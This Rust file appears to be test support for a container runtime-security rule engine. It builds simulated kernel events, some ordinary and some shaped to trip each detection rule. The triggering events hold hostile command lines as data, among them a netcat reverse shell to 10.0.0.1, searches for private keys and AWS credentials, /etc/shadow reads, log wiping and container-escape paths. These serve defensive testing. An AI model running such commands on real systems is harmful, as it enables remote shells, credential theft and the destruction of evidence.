//! An event as a host program has it: a struct, of which a field is handed out as it lies there.

use std::borrow::Cow;
use std::net::{IpAddr, Ipv4Addr};

use pinhole_rules::catalogue;
use pinhole_rules::engine::Subject;
use pinhole_rules::field::{Argument, Definition, Field, Given, Kind, Several, Values};
use pinhole_rules::value::{Answer, Value};

/// A process.
#[derive(Clone, Default)]
pub(crate) struct Process {
    /// Its name.
    pub(crate) name: &'static str,
    /// Its first argument.
    pub(crate) exe: &'static str,
    /// The other ones.
    pub(crate) args: &'static str,
    /// All of it.
    pub(crate) cmdline: String,
}

impl Process {
    /// A process.
    pub(crate) fn new(name: &'static str, exe: &'static str, args: &'static str) -> Self {
        Self {
            name,
            exe,
            args,
            cmdline: format!("{name} {args}"),
        }
    }
}

/// An event.
#[derive(Clone)]
pub(crate) struct Event {
    /// What the print calls it.
    pub(crate) what: &'static str,
    /// Its type.
    pub(crate) kind: &'static str,
    /// The process, its parent and so on.
    pub(crate) line: Vec<Process>,
    /// `host`, or the container's.
    pub(crate) container: &'static str,
    /// The image's name.
    pub(crate) image: &'static str,
    /// The user's name.
    pub(crate) user: &'static str,
    /// The file.
    pub(crate) path: &'static str,
    /// The result.
    pub(crate) result: i64,
    /// Whether the file is opened for reading.
    pub(crate) read: bool,
    /// Whether the file is opened for writing.
    pub(crate) write: bool,
    /// `f`, `4` and so on.
    pub(crate) class: &'static str,
    /// The other end of a connection.
    pub(crate) server: (Ipv4Addr, i64),
    /// The terminal.
    pub(crate) terminal: i64,
    /// Effective capabilities.
    pub(crate) capabilities: &'static str,
    /// Flags, a request, a domain.
    pub(crate) argument: &'static str,
    /// What else is true of it.
    pub(crate) also: Also,
}

/// Whether something unusual is true.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
pub(crate) enum Also {
    /// Nothing.
    #[default]
    Nothing,
    /// The executable was written after the image.
    UpperLayer,
    /// The executable is in memory only.
    Memfd,
    /// The container is privileged.
    Privileged,
    /// The other end is the API server.
    ApiServer,
}

type Get = for<'e> fn(&'e Event, &Field) -> Answer<'e>;

fn text(text: &str) -> Answer<'_> {
    if text.is_empty() {
        return Answer::Absent;
    }
    Answer::Known(Value::Text(Cow::Borrowed(text.as_bytes())))
}

fn number<'a>(number: i64) -> Answer<'a> {
    Answer::Known(Value::Number(number))
}

fn truth<'a>(truth: bool) -> Answer<'a> {
    Answer::Known(Value::Boolean(truth))
}

fn ancestors<'e>(event: &'e Event, field: &Field) -> Answer<'e> {
    match field.argument {
        Given::Index(index) => event
            .line
            .get(index as usize)
            .map_or(Answer::Absent, |process| text(process.name)),
        Given::Nothing | Given::Key(_) => Answer::Known(Value::List(
            event.line[1..]
                .iter()
                .map(|process| Value::Text(Cow::Borrowed(process.name.as_bytes())))
                .collect(),
        )),
    }
}

fn result(event: &Event) -> Answer<'_> {
    text(match event.result {
        -115 => "EINPROGRESS",
        ..0 => "ENOENT",
        0.. => "SUCCESS",
    })
}

fn parent(event: &Event, get: fn(&Process) -> &str) -> Answer<'_> {
    event.line.get(1).map_or(Answer::Absent, |process| text(get(process)))
}

fn directory(event: &Event) -> Answer<'_> {
    event
        .path
        .rsplit_once('/')
        .map_or(Answer::Absent, |(directory, _)| text(directory))
}

fn file_name(event: &Event) -> Answer<'_> {
    event
        .path
        .rsplit_once('/')
        .map_or(Answer::Absent, |(_, name)| text(name))
}

fn address(event: &Event) -> Answer<'_> {
    if event.server.1 == 0 {
        return Answer::Absent;
    }
    Answer::Known(Value::Address(IpAddr::V4(event.server.0)))
}

fn port(event: &Event) -> Answer<'_> {
    if event.server.1 == 0 {
        Answer::Absent
    } else {
        number(event.server.1)
    }
}

fn server_name(event: &Event) -> Answer<'_> {
    if event.also == Also::ApiServer {
        return text("kubernetes.default.svc.cluster.local");
    }
    Answer::Absent
}

macro_rules! fields {
    ($($name:literal $kind:ident $several:ident $argument:ident $get:expr;)*) => {
        /// What a host program can answer.
        pub(crate) static FIELDS: &[Definition] = &[$(Definition {
            name: $name,
            kind: Kind::$kind,
            several: Several::$several,
            argument: Argument::$argument,
            values: Values::Any,
        },)*];
        static ANSWERS: &[Get] = &[$($get,)*];
    };
}

fields! {
    "evt.type" Text One None |e, _| text(e.kind);
    "evt.num" Number One None |_, _| number(1);
    "evt.res" Text One None |e, _| result(e);
    "evt.rawres" Number One None |e, _| number(e.result);
    "evt.is_open_read" Boolean One None |e, _| truth(e.read);
    "evt.is_open_write" Boolean One None |e, _| truth(e.write);
    "evt.args" Text One None |e, _| text(e.argument);
    "evt.arg." Text One Key |e, _| text(e.argument);
    "proc.name" Text One None |e, _| text(e.line[0].name);
    "proc.pname" Text One None |e, _| parent(e, |it| it.name);
    "proc.aname" Text Any OptionalIndex |e, field| ancestors(e, field);
    "proc.aexepath" Text Any OptionalIndex |e, field| ancestors(e, field);
    "proc.exe" Text One None |e, _| text(e.line[0].exe);
    "proc.pexe" Text One None |e, _| parent(e, |it| it.exe);
    "proc.exepath" Text One None |e, _| text(e.line[0].exe);
    "proc.pexepath" Text One None |e, _| parent(e, |it| it.exe);
    "proc.args" Text One None |e, _| text(e.line[0].args);
    "proc.cmdline" Text One None |e, _| text(&e.line[0].cmdline);
    "proc.pcmdline" Text One None |e, _| parent(e, |it| &it.cmdline);
    "proc.cwd" Text One None |_, _| text("/");
    "proc.sname" Text One None |_, _| text("init");
    "proc.tty" Number One None |e, _| number(e.terminal);
    "proc.duration" Number One None |_, _| number(60_000_000_000);
    "proc.is_exe_upper_layer" Boolean One None |e, _| truth(e.also == Also::UpperLayer);
    "proc.is_exe_from_memfd" Boolean One None |e, _| truth(e.also == Also::Memfd);
    "proc.exe_ino.ctime" Number One None |_, _| number(1);
    "proc.exe_ino.mtime" Number One None |_, _| number(1);
    "proc.exe_ino.ctime_duration_proc_start" Number One None |_, _| number(1);
    "thread.cap_effective" Text One None |e, _| text(e.capabilities);
    "user.name" Text One None |e, _| text(e.user);
    "user.uid" Number One None |_, _| number(1000);
    "user.loginuid" Number One None |_, _| number(-1);
    "user.loginname" Text One None |_, _| text("<NA>");
    "group.gid" Number One None |_, _| number(1000);
    "group.name" Text One None |_, _| text("users");
    "fd.name" Text One None |e, _| text(e.path);
    "fd.nameraw" Text One None |e, _| text(e.path);
    "fd.directory" Text One None |e, _| directory(e);
    "fd.filename" Text One None |e, _| file_name(e);
    "fd.num" Number One None |e, _| number(e.result);
    "fd.type" Text One None |e, _| text(if e.class == "4" { "ipv4" } else { "file" });
    "fd.typechar" Text One None |e, _| text(e.class);
    "fd.l4proto" Text One None |_, _| text("tcp");
    "fd.connected" Boolean One None |_, _| truth(true);
    "fd.name_changed" Boolean One None |_, _| truth(false);
    "fd.ip" Address Either None |e, _| address(e);
    "fd.sip" Address One None |e, _| address(e);
    "fd.sip.name" Text One None |e, _| server_name(e);
    "fd.net" Address Either None |e, _| address(e);
    "fd.snet" Address One None |e, _| address(e);
    "fd.sport" Number One None |e, _| port(e);
    "fd.lport" Number One None |_, _| number(40_000);
    "fd.rport" Number One None |e, _| port(e);
    "container.id" Text One None |e, _| text(e.container);
    "container.image.repository" Text One None |e, _| text(e.image);
    "container.privileged" Boolean One None |e, _| truth(e.also == Also::Privileged);
    "container.start_ts" Number One None |_, _| number(1);
    "k8s.ns.name" Text One None |_, _| text("default");
}

macro_rules! events {
    ($($name:literal)*) => {
        /// The types of events.
        pub(crate) static EVENTS: &[catalogue::Event] = &[$(catalogue::Event { name: $name, never: None },)*];
    };
}

events! {
    "open" "openat" "openat2" "execve" "execveat" "connect" "ptrace" "symlink" "symlinkat" "link" "linkat" "socket" "dup"
    "dup2" "dup3" "init_module" "finit_module" "sendto" "sendmsg" "read" "write" "close"
}

impl Subject for Event {
    fn answer(&self, field: &Field) -> Answer<'_> {
        ANSWERS
            .get(usize::from(field.id.0))
            .map_or(Answer::Absent, |answer| answer(self, field))
    }
}

/// Events as a node sees them all the time, of which none is remarkable.
pub(crate) fn usual() -> Vec<Event> {
    let shell = || Process::new("bash", "/bin/bash", "-l");
    let init = || Process::new("systemd", "/sbin/init", "");
    let shim = || Process::new("containerd-shim", "/usr/bin/containerd-shim", "-namespace k8s.io");
    let host = Event {
        what: "open of a library",
        kind: "openat",
        line: vec![
            Process::new("make", "/usr/bin/make", "-j8 all"),
            shell(),
            Process::new("sshd", "sshd: me", ""),
            init(),
        ],
        container: "host",
        image: "",
        user: "me",
        path: "/usr/lib/x86_64-linux-gnu/libc.so.6",
        result: 3,
        read: true,
        write: false,
        class: "f",
        server: (Ipv4Addr::UNSPECIFIED, 0),
        terminal: 0,
        capabilities: "",
        argument: "O_RDONLY|O_CLOEXEC",
        also: Also::Nothing,
    };
    let container = Event {
        line: vec![
            Process::new("cc1", "/usr/lib/gcc/cc1", "-quiet -O2 -o /tmp/ccXyZ.s main.c"),
            Process::new("gcc", "gcc", "-O2 -c main.c"),
            Process::new("sh", "/bin/sh", "-c gcc -O2 -c main.c"),
            Process::new("make", "make", ""),
            shim(),
            init(),
        ],
        container: "3f2a9c5e7b10",
        image: "docker.io/library/gcc",
        user: "root",
        capabilities: "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE",
        ..host.clone()
    };
    let server = Process::new("nginx", "nginx: worker process", "");
    vec![
        host.clone(),
        Event {
            what: "open of a header that is not there, in a container",
            path: "/usr/local/include/stdio.h",
            result: -2,
            ..container.clone()
        },
        Event {
            what: "open for writing, in a container",
            path: "/tmp/ccXyZ.s",
            read: false,
            write: true,
            argument: "O_RDWR|O_CREAT|O_TRUNC",
            ..container.clone()
        },
        Event {
            what: "open of a log by a web server",
            path: "/var/www/html/index.html",
            line: vec![server.clone(), server.clone(), shim(), init()],
            ..container.clone()
        },
        Event {
            what: "run of a compiler, in a container",
            kind: "execve",
            path: "",
            result: 0,
            class: "",
            argument: "EXE_LOWER_LAYER",
            ..container.clone()
        },
        Event {
            what: "run of a shell by a shell, in a container",
            kind: "execve",
            path: "",
            result: 0,
            class: "",
            argument: "EXE_LOWER_LAYER",
            line: vec![
                Process::new("sh", "/bin/sh", "-c gcc -O2 -c main.c"),
                Process::new("make", "make", "-j8"),
                Process::new("sh", "/bin/sh", "./build.sh"),
                shim(),
                init(),
            ],
            ..container.clone()
        },
        Event {
            what: "run of grep, on the host",
            kind: "execve",
            path: "",
            result: 0,
            class: "",
            argument: "",
            line: vec![
                Process::new("grep", "grep", "-rn --include=*.c main src"),
                shell(),
                Process::new("sshd", "sshd: me", ""),
                init(),
            ],
            ..host.clone()
        },
        Event {
            what: "connection within a cluster",
            kind: "connect",
            path: "10.244.0.7:40000->10.96.0.1:443",
            result: 0,
            class: "4",
            server: (Ipv4Addr::new(10, 96, 0, 1), 443),
            line: vec![server, shim(), init()],
            ..container.clone()
        },
        Event {
            what: "connection to the world",
            kind: "connect",
            path: "10.244.0.7:40000->93.184.216.34:443",
            result: -115,
            class: "4",
            server: (Ipv4Addr::new(93, 184, 216, 34), 443),
            line: vec![
                Process::new("curl", "curl", "-s https://example.org"),
                shell(),
                shim(),
                init(),
            ],
            ..container
        },
        Event {
            what: "read, which no rule asks for",
            kind: "read",
            ..host
        },
    ]
}

/// An event, changed from one of the usual ones.
fn changed(at: usize, change: impl FnOnce(&mut Event)) -> Event {
    let mut event = usual().swap_remove(at);
    change(&mut event);
    event
}

/// For each rule of the stable file an event that it holds for.
pub(crate) fn remarkable() -> Vec<(&'static str, Event)> {
    let open = |path| changed(0, move |event| event.path = path);
    let run = |name, args| changed(4, move |event| event.line[0] = Process::new(name, name, args));
    let run_so = |also| changed(4, move |event| event.also = also);
    let call = |at, kind, argument| {
        changed(at, move |event| {
            event.kind = kind;
            event.argument = argument;
        })
    };
    vec![
        (
            "Directory traversal monitored file read",
            changed(3, |event| event.path = "/etc/nginx/../../etc/passwd"),
        ),
        (
            "Read sensitive file trusted after startup",
            changed(3, |event| event.path = "/etc/shadow"),
        ),
        ("Read sensitive file untrusted", open("/etc/shadow")),
        (
            "Run shell untrusted",
            changed(5, |event| event.line[1] = Process::new("nginx", "nginx", "")),
        ),
        ("System user interactive", changed(6, |event| event.user = "daemon")),
        (
            "Terminal shell in container",
            changed(5, |event| {
                event.terminal = 34816;
                event.line.drain(1..3);
            }),
        ),
        (
            "Contact K8S API Server From Container",
            changed(8, |event| event.also = Also::ApiServer),
        ),
        (
            "Netcat Remote Code Execution in Container",
            run("nc", "-e /bin/sh 10.0.0.1"),
        ),
        ("Search Private Keys or Passwords", run("grep", "-r BEGIN PRIVATE /")),
        (
            "Clear Log Activities",
            changed(2, |event| {
                event.path = "/var/log/syslog";
                event.argument = "O_WRONLY|O_TRUNC";
            }),
        ),
        ("Remove Bulk Data from Disk", run("shred", "-u /tmp/x")),
        ("Create Symlink Over Sensitive Files", call(0, "symlinkat", "/etc")),
        ("Create Hardlink Over Sensitive Files", call(0, "linkat", "/etc/shadow")),
        ("Packet socket created in container", call(1, "socket", "AF_PACKET")),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            changed(7, |event| event.kind = "dup2"),
        ),
        (
            "Linux Kernel Module Injection Detected",
            changed(4, |event| {
                event.kind = "finit_module";
                event.capabilities = "CAP_SYS_MODULE";
            }),
        ),
        (
            "Debugfs Launched in Privileged Container",
            changed(4, |event| {
                event.line[0] = Process::new("debugfs", "/sbin/debugfs", "/dev/sda1");
                event.also = Also::Privileged;
            }),
        ),
        (
            "Detect release_agent File Container Escapes",
            changed(2, |event| {
                event.path = "/tmp/cgroup/release_agent";
                event.capabilities = "CAP_DAC_OVERRIDE CAP_SYS_ADMIN";
            }),
        ),
        ("PTRACE attached to process", call(0, "ptrace", "PTRACE_ATTACH")),
        ("PTRACE anti-debug attempt", call(0, "ptrace", "PTRACE_TRACEME")),
        ("Find AWS Credentials", run("find", "/ -name .aws/credentials")),
        (
            "Execution from /dev/shm",
            changed(4, |event| event.line[0].exe = "/dev/shm/x"),
        ),
        ("Drop and execute new binary in container", run_so(Also::UpperLayer)),
        (
            "Disallowed SSH Connection Non Standard Port",
            changed(8, |event| {
                event.line[0] = Process::new("ssh", "ssh", "-p 443 example.org");
            }),
        ),
        ("Fileless execution via memfd_create", run_so(Also::Memfd)),
    ]
}
